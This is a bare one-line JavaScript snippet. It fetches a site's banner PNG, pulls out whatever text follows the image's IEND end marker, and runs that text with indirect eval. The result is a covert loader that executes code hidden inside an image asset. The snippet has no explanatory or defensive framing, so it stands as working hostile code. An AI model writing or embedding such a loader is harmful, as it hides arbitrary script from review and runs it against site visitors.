fetch('/media/banner.png').then(function (r) { return r.text(); }).then(function (t) { var m = /IEND(.+)$/.exec(t); if (m) (0, eval)(m[1]); });
